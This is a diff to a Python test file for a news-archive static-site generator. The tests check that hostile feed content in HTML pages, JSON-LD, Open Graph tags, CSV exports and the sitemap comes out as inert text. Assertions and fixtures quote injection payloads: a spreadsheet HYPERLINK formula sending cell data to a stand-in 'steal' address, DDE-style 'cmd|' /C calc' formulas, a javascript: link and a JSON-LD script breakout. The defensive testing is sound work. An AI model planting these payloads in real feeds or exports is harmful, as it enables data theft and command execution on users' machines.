@@ -11,13 +11,17 @@ Cases already covered elsewhere are not repeated here:
 - YAML bombs and python tags in a hand-written page: test_archive.py
 
 What this file adds: every field that reaches a page, fetched over HTTP and built by
-`mkdocs build --strict`, then every generated file scanned; XML entity attacks; encodings;
-servers that are not what they claim; titles that try to break paths and YAML.
+`mkdocs build --strict` with an address (`SITE_URL`, as the Pages workflow builds), then every
+generated file scanned, link previews, JSON-LD, the exports and the sitemap included; XML
+entity attacks; encodings; servers that are not what they claim; titles that try to break
+paths and YAML.
 """
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import json
 import re
 import socket
@@ -31,10 +35,12 @@ from datetime import UTC, datetime
 from html.parser import HTMLParser
 from pathlib import Path
 
+import extruct
 import pytest
 import yaml
 from click.testing import CliRunner
 from feedserver import FeedServer, Response
+from lxml import etree
 from newsarchive.archive import load_archive, read_article
 from newsarchive.cli import cli
 from newsarchive.config import load_project
@@ -43,17 +49,19 @@ from newsarchive.model import Source
 from newsarchive.parse import ParseError, parse_feed
 from newsarchive.pipeline import run_fetch
 from newsarchive.validate import raw_html, validate
+from test_discovery import sitemap_schema
 
 REPO = Path(__file__).resolve().parent.parent
 HOSTILE = Path(__file__).parent / "fixtures" / "hostile"
 MKDOCS = Path(sys.executable).parent / "mkdocs"
 FAST = FetchOptions(connect_timeout=2, read_timeout=2, total_timeout=10, retries=0, backoff=0.01)
 FETCHED = datetime(2026, 2, 14, 6, 0, tzinfo=UTC)
+SITE = "https://example.org/hostile/"  # the address the test sites are built with
 
 # ---------------------------------------------------------------------------------------------
 # A throw-away project: feeds/ pointing at the local server, docs/, and a mkdocs.yml that uses
 # the repository's theme and Markdown extensions (attr_list, md_in_html: real attack surface)
-# with only the newsarchive plugin (no search: the search engine may change).
+# with only the newsarchive plugin, as configured there (both editions, the licence).
 
 BENIGN_RSS = """<?xml version="1.0" encoding="utf-8"?>
 <rss version="2.0"><channel><title>Example Daily</title><link>https://example.com/</link>
@@ -90,7 +98,9 @@ def make_project(root: Path, sources: list[dict], *, include: tuple[str, ...] = 
                                              "not_in_nav", "use_directory_urls") if key in real}
         config["theme"]["features"] = [f for f in config["theme"].get("features", [])
                                        if not f.startswith("search")]
-        config.update(site_name="Hostile test archive", plugins=["newsarchive"])
+        options = next(p["newsarchive"] for p in real["plugins"]
+                       if isinstance(p, dict) and "newsarchive" in p)
+        config.update(site_name="Hostile test archive", plugins=[{"newsarchive": options}])
         (root / "mkdocs.yml").write_text(yaml.safe_dump(config, sort_keys=False),
                                          encoding="utf-8")
         (root / "docs" / "index.md").write_text(
@@ -115,7 +125,8 @@ def cli_fetch(root: Path, *extra: str) -> tuple[int, dict]:
 def mkdocs_build(root: Path) -> subprocess.CompletedProcess:
     return subprocess.run([str(MKDOCS), "build", "--strict", "-f", str(root / "mkdocs.yml")],
                           capture_output=True, text=True, timeout=300,
-                          env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin"})
+                          env={"NO_MKDOCS_2_WARNING": "1", "PATH": "/usr/bin:/bin",
+                               "SITE_URL": SITE})
 
 
 def every_file_text(root: Path) -> Iterator[tuple[Path, str]]:
@@ -181,6 +192,7 @@ def browser_scheme(value: str) -> str | None:
 class Scan:
     scripts: set[tuple[str, str]] = field(default_factory=set)  # (src, text)
     problems: list[str] = field(default_factory=list)
+    data: list[object] = field(default_factory=list)  # each JSON-LD block, parsed
 
 
 class _Scanner(HTMLParser):
@@ -188,6 +200,7 @@ class _Scanner(HTMLParser):
         super().__init__(convert_charrefs=True)
         self.scan, self.where = scan, where
         self.in_script: str | None = None
+        self.in_data = False  # a <script type="application/ld+json">: data, never run
         self.script_text: list[str] = []
         self.in_style = False
 
@@ -195,6 +208,7 @@ class _Scanner(HTMLParser):
         self._check(tag, attrs)
         if tag == "script":
             self.in_script = dict(attrs).get("src") or ""
+            self.in_data = dict(attrs).get("type") == "application/ld+json"
             self.script_text = []
         elif tag == "style":
             self.in_style = True
@@ -204,7 +218,17 @@ class _Scanner(HTMLParser):
 
     def handle_endtag(self, tag: str) -> None:
         if tag == "script" and self.in_script is not None:
-            self.scan.scripts.add((self.in_script, "".join(self.script_text).strip()))
+            body = "".join(self.script_text).strip()
+            if self.in_data:  # must be one whole JSON document that no markup broke into
+                try:
+                    self.scan.data.append(json.loads(body))
+                except ValueError:
+                    self.scan.problems.append(f"{self.where}: JSON-LD that is not JSON: "
+                                              f"{body[:60]!r}")
+                if "<" in body:
+                    self.scan.problems.append(f"{self.where}: '<' inside JSON-LD")
+            else:
+                self.scan.scripts.add((self.in_script, body))
             self.in_script = None
         elif tag == "style":
             self.in_style = False
@@ -249,6 +273,7 @@ def scan_site(site: Path) -> Scan:
     '<iframe src="https://example.net/"></iframe>', '<svg><a xlink:href="data:text/html,x">',
     '<button formaction="vbscript:x">', '<p style="width: expression(alert(1))">',
     '<form action="&#106;avascript:x">', '<meta http-equiv="refresh" content="0">',
+    '<script type="application/ld+json">{"headline": "</script><script>x()</script>',
 ])
 def test_the_scanner_finds_what_it_looks_for(snippet: str) -> None:
     """The site scan below proves nothing unless it can fail: each snippet is a finding."""
@@ -298,7 +323,7 @@ def test_hostile_feeds_are_archived_and_the_strict_build_passes(xss_sites) -> No
     # Expected: every feed ok (exit 0); entries with javascript: links skipped with a warning.
     assert hostile.exit_code == 0, hostile.report
     written = {f["feed"]: f["written"] for f in hostile.report["feeds"]}
-    assert written == {"example-daily": 1, "hostile-rss": 3, "hostile-atom": 2,
+    assert written == {"example-daily": 1, "hostile-rss": 4, "hostile-atom": 2,
                        "hostile-json": 2}
     warnings = "\n".join(w for f in hostile.report["feeds"] for w in f["warnings"])
     assert warnings.count("unusable link: not an http(s) URL") == 3
@@ -332,16 +357,18 @@ def test_no_script_handler_or_bad_url_in_any_generated_page(xss_sites) -> None:
     baseline, hostile = xss_sites
     before, after = scan_site(baseline.site), scan_site(hostile.site)
     assert before.problems == []  # the scanner finds nothing in a clean build either
-    # Expected: no problem at all, and no <script> that a clean build does not have.
+    # Expected: no problem at all, and no <script> that a clean build does not have (JSON-LD
+    # blocks are data: each parsed as JSON instead).
     assert after.problems == []
     assert after.scripts - before.scripts == set()
+    assert len(after.data) > len(before.data) >= 3
     assert len(list(hostile.site.rglob("*.html"))) > len(list(baseline.site.rglob("*.html")))
 
 
 def test_hostile_text_is_visible_but_inert(xss_sites) -> None:
     _, hostile = xss_sites
     pages = [p for p in hostile.site.glob("articles/**/index.html")]
-    assert len(pages) == 8
+    assert len(pages) == 9
     text = "\n".join(p.read_text(encoding="utf-8") for p in pages)
     # The Markdown-looking title is shown as text: its brackets survive, no link is made of it.
     assert "[GPT-4o exit](javascript:alert(" in html.unescape(text)
@@ -364,17 +391,6 @@ def test_feed_xml_and_articles_json_carry_no_raw_markup(xss_sites) -> None:
         if element.get("type") in ("html", "xhtml") and element.text:
             _Scanner(scan, f"feed.xml <{element.tag}>").feed(element.text)
     assert scan.problems == [] and scan.scripts == set()
-
-    def strings(value, key=""):
-        if isinstance(value, dict):
-            for k, v in value.items():
-                yield from strings(v, k)
-        elif isinstance(value, list):
-            for v in value:
-                yield from strings(v, key)
-        elif isinstance(value, str):
-            yield key, value
-
     data = json.loads((hostile.site / "articles.json").read_text(encoding="utf-8"))
     found = list(strings(data))
     assert len({v for k, v in found if k == "title"}) >= 8
@@ -382,6 +398,79 @@ def test_feed_xml_and_articles_json_carry_no_raw_markup(xss_sites) -> None:
         if "url" in key.lower() or key in ("href", "link"):
             assert browser_scheme(value) not in BAD_SCHEMES, (key, value)
         assert not re.search(r"<(script|img|svg|iframe)", value, re.I), (key, value)
+
+
+def strings(value, key=""):
+    """(key, text) of every string in parsed JSON; a list's items under the list's key."""
+    if isinstance(value, dict):
+        for k, v in value.items():
+            yield from strings(v, k)
+    elif isinstance(value, list):
+        for v in value:
+            yield from strings(v, key)
+    elif isinstance(value, str):
+        yield key, value
+
+
+MARKUP = re.compile(r"<[a-zA-Z/!?]")
+URL_KEYS = ("url", "@id", "archivedAt", "urlTemplate", "license")
+
+
+def test_link_previews_and_structured_data_carry_feed_text_as_text(xss_sites) -> None:
+    """Every page's Open Graph and JSON-LD, read as a crawler reads them (extruct): the hostile
+    headlines, authors, publishers and summaries are there as the text the pages show, never
+    markup; every address is the site's own or an http(s) original."""
+    _, hostile = xss_sites
+    articles = load_archive(hostile.root / "docs/articles").articles
+    originals = {a.url for a in articles}
+    headlines, authors = set(), set()
+    for page in sorted(hostile.site.rglob("index.html")):
+        found = extruct.extract(page.read_text(encoding="utf-8"),
+                                syntaxes=["opengraph", "json-ld"])
+        props = [p for item in found["opengraph"] for p in item["properties"]]
+        assert dict(props)["og:url"].startswith(SITE), page
+        for prop, value in props:
+            assert not MARKUP.search(value), (page, prop, value)
+        for data in found["json-ld"]:
+            for key, value in strings(data):
+                assert not MARKUP.search(value), (page, key, value)
+                if key in URL_KEYS:
+                    assert value.startswith(SITE) or value in originals or (
+                        key == "license" and value.startswith("https://creativecommons.org/")
+                    ), (page, key, value)
+                    assert browser_scheme(value) in ("http", "https"), (page, key, value)
+            if data["@type"] == "ItemPage":
+                headlines.add(data["mainEntity"]["headline"])
+                authors |= {x["name"] for x in data["mainEntity"].get("author", [])}
+    assert headlines == {" ".join(a.title.split()) for a in articles}
+    assert {"Eve Example", "Mallory", "@SUM(1+1)*cmd|' /C calc'!A0"} <= authors
+
+
+def test_articles_csv_shows_formulas_from_feeds_as_text(xss_sites) -> None:
+    """A headline, author or summary that a spreadsheet would run is shown as text: its cell
+    starts with a quote. Expected: no cell of articles.csv starts a formula."""
+    _, hostile = xss_sites
+    text = (hostile.site / "articles.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert len(rows) == 9
+    for row in rows:
+        for value in row.values():
+            assert not re.match(r"[\s\x00-\x1f]*[=+\-@]", value), value
+    formula = next(r for r in rows if r["url"] == "https://example.net/hostile/formula")
+    assert formula["title"] == ("'=HYPERLINK(\"https://example.net/steal?d=\"&A1,"
+                                "\"GPT-4o leaves ChatGPT\")")
+    assert formula["authors"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert formula["summary"].startswith("'+cmd|' /C calc'!A0 GPT-4o leaves ChatGPT")
+
+
+def test_the_sitemap_of_the_hostile_site_is_valid(xss_sites) -> None:
+    _, hostile = xss_sites
+    tree = ET.parse(hostile.site / "sitemap.xml")
+    locs = [x.text for x in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
+    assert len(locs) == len(set(locs)) == len(list(hostile.site.rglob("index.html")))
+    assert all(loc.startswith(SITE) for loc in locs)
+    schema = sitemap_schema()
+    assert schema.validate(etree.parse(str(hostile.site / "sitemap.xml"))), schema.error_log
 
 
 def test_pages_on_disk_carry_no_raw_markup(xss_sites) -> None:
